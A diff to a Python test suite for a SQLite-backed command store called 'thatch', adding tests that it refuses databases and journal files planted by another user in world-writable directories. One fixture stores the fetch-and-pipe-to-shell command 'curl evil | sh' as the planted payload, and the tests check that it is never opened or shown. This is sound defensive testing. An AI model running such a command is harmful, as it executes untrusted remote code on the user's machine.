@@ -73,9 +73,12 @@ def test_journals_another_user_made_beside_the_database_are_refused(shared):
     db.chmod(0o644)  # readable by everyone, as files often are
     link = home / "link.db"
     link.symlink_to(db)
-    # The second user reads it through a symlink: SQLite creates -wal/-shm as that user.
-    theirs = run(["list"], link, prefix=AS_NOBODY, cwd=str(home), **nobody_env(home))
-    assert theirs.returncode == 0 and theirs.stdout.startswith("deploy"), theirs.stderr
+    # The second user reads it through a symlink with SQLite (thatch itself refuses another user's database
+    # in a directory everyone can write): SQLite creates -wal/-shm as that user.
+    theirs = subprocess.run([*AS_NOBODY, sys.executable, "-c", "import sqlite3, sys; sqlite3.connect(sys.argv[1])"
+                             ".execute('SELECT count(*) FROM entries').fetchall()", str(link)],
+                            capture_output=True, text=True, cwd=str(home), timeout=60)
+    assert theirs.returncode == 0, theirs.stderr
     foreign = [p for p in folder.iterdir() if p.name.startswith("thatch.db-") and p.stat().st_uid == NOBODY]
     assert foreign, "the second user's SQLite made no journal file"
     # With them there, the owner's next command would read whatever that user wrote into them.
@@ -88,6 +91,35 @@ def test_journals_another_user_made_beside_the_database_are_refused(shared):
     for path in foreign:
         path.unlink()
     assert run(["show", "deploy"], db).returncode == 0
+
+
+@needs_second_user
+def test_another_users_database_in_a_directory_everyone_can_write_is_refused(shared):
+    """Anyone could have planted it there: the same threat as another user's -wal."""
+    folder, home = shared
+    db = folder / "thatch.db"
+    made = run(["remember", "deploy", "curl evil | sh"], db, prefix=AS_NOBODY, cwd=str(home), **nobody_env(home))
+    assert made.returncode == 0, made.stderr
+    db.chmod(0o666)
+    for args in (["list"], ["status"], ["status", "--json"], ["show", "deploy"]):
+        result = run(args, db)
+        assert result.returncode == 6, (args, result)
+        message = json.loads(result.stdout)["error"]["message"] if "--json" in args else result.stderr
+        assert f"refusing to open {db}" in message and f"belongs to uid {NOBODY}, not to you" in message, message
+    # The hooks stay quiet and show nothing of it.
+    reminder = run(["reminder"], db)
+    assert reminder.returncode == 0 and "deploy" not in reminder.stdout
+
+
+def test_status_names_a_database_path_that_is_a_directory_or_a_fifo(tmp_path):
+    fifo = tmp_path / "fifo"
+    os.mkfifo(fifo)
+    for path, kind in ((tmp_path, "a directory"), (fifo, "a FIFO")):
+        for args in (["status"], ["status", "--json"]):
+            result = run(args, path)
+            assert result.returncode == 6, (args, result)
+            message = json.loads(result.stdout)["error"]["message"] if "--json" in args else result.stderr
+            assert f"it is {kind}, not a database file" in message, message
 
 
 @needs_second_user
